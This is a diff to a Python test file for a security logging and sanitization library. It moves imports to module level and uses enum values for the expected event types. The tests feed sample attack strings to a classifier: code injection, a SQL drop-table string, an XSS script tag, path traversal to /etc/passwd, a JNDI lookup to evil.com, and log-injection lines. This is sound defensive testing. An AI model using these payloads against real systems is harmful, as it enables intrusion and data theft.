@@ -23,18 +23,36 @@ from io import StringIO
 # Add the src directory to the path
 sys.path.insert(0, os.path.join(os.path.dirname(__file__), 'src'))
 
+from reasoning_library.sanitization import sanitize_for_logging, sanitize_text_input
+from reasoning_library.security_logging import (
+    SecurityEventType,
+    get_security_logger,
+    get_security_metrics,
+    log_security_event,
+)
+
+# Fetched once per module; the tests reuse these handles instead of
+# re-resolving the global logger on every call.
+_LOGGER = get_security_logger()
+_METRICS = get_security_metrics
+
+# Expected event type names, taken from the enum so the classification
+# checks follow any renamed value
+CODE_INJECTION = SecurityEventType.CODE_INJECTION.value
+SQL_INJECTION = SecurityEventType.SQL_INJECTION.value
+XSS_ATTEMPT = SecurityEventType.XSS_ATTEMPT.value
+PATH_TRAVERSAL = SecurityEventType.PATH_TRAVERSAL.value
+SUSPICIOUS = SecurityEventType.SUSPICIOUS_PATTERN.value
+
 def test_security_event_logging_levels():
     """Test that security events are logged at appropriate severity levels."""
     print("🔍 Testing Security Event Logging Levels...")
 
-    from reasoning_library.sanitization import sanitize_text_input
-    from reasoning_library.security_logging import get_security_logger
-
     # Capture logs
     log_stream = StringIO()
     handler = logging.StreamHandler(log_stream)
 
-    logger = get_security_logger().logger
+    logger = _LOGGER.logger
     logger.addHandler(handler)
     logger.setLevel(logging.WARNING)
 
@@ -69,15 +87,13 @@ def test_attack_pattern_classification():
     """Test that attack patterns are properly classified and identified."""
     print("\n🔍 Testing Attack Pattern Classification...")
 
-    from reasoning_library.security_logging import get_security_metrics, log_security_event
-
     # Test direct logging
     test_cases = [
-        ("eval(malicious)", "code_injection"),
-        ("'; DROP TABLE users;", "sql_injection"),
-        ("<script>alert(1)</script>", "xss_attempt"),
-        ("../../../etc/passwd", "path_traversal"),
-        ("jndi:ldap://evil.com", "suspicious_pattern"),
+        ("eval(malicious)", CODE_INJECTION),
+        ("'; DROP TABLE users;", SQL_INJECTION),
+        ("<script>alert(1)</script>", XSS_ATTEMPT),
+        ("../../../etc/passwd", PATH_TRAVERSAL),
+        ("jndi:ldap://evil.com", SUSPICIOUS),
     ]
 
     for input_text, expected_type in test_cases:
@@ -88,13 +104,13 @@ def test_attack_pattern_classification():
             block_action=True
         )
 
-        assert event['event_type'] == expected_type or event['event_type'] == 'suspicious_pattern', \
+        assert event['event_type'] == expected_type or event['event_type'] == SUSPICIOUS, \
             f"Expected {expected_type}, got {event['event_type']}"
 
         print(f"  ✅ {input_text} classified as {event['event_type']}")
 
     # Check metrics
-    metrics = get_security_metrics()
+    metrics = _METRICS()
     assert metrics['total_events'] >= len(test_cases), "Not all events were tracked"
 
     print(f"  ✅ Total events tracked: {metrics['total_events']}")
@@ -104,8 +120,6 @@ def test_log_injection_prevention():
     """Test that log injection attacks are prevented."""
     print("\n🔍 Testing Log Injection Prevention...")
 
-    from reasoning_library.sanitization import sanitize_for_logging
-
     injection_attempts = [
         "Normal text\n[ERROR] System compromised",
         "Normal text\r[CRITICAL] Security breach detected",
@@ -132,8 +146,6 @@ def test_security_metrics_and_correlation():
     """Test security metrics collection and event correlation."""
     print("\n🔍 Testing Security Metrics and Correlation...")
 
-    from reasoning_library.security_logging import get_security_metrics, log_security_event
-
     # Simulate multiple attacks from same source
     source = "correlation_test"
     attacks = [
@@ -146,7 +158,7 @@ def test_security_metrics_and_correlation():
     for attack in attacks:
         log_security_event(attack, source=source, block_action=True)
 
-    metrics = get_security_metrics()
+    metrics = _METRICS()
 
     # Verify metrics are collected
     assert metrics['total_events'] >= len(attacks), "Events not properly counted"
@@ -167,9 +179,6 @@ def test_sensitive_data_protection():
     """Test that sensitive data is not exposed in security logs."""
     print("\n🔍 Testing Sensitive Data Protection...")
 
-    from reasoning_library.security_logging import log_security_event
-    from reasoning_library.sanitization import sanitize_for_logging
-
     # Test with sensitive data patterns
     sensitive_inputs = [
         "password='secret123' and eval('attack')",
@@ -199,8 +208,6 @@ def test_rate_limiting_functionality():
     """Test that rate limiting is working correctly."""
     print("\n🔍 Testing Rate Limiting Functionality...")
 
-    from reasoning_library.security_logging import log_security_event, get_security_metrics
-
     # Simulate multiple rapid requests from same source
     source = "rate_limit_test"
 
@@ -216,7 +223,7 @@ def test_rate_limiting_functionality():
         print(f"  ⚠️  Rate limiting not triggered (expected for small test)")
 
     # Check that rate limited sources are tracked
-    metrics = get_security_metrics()
+    metrics = _METRICS()
     if metrics['rate_limited_sources'] > 0:
         print(f"  ✅ Rate limited sources tracked: {metrics['rate_limited_sources']}")
 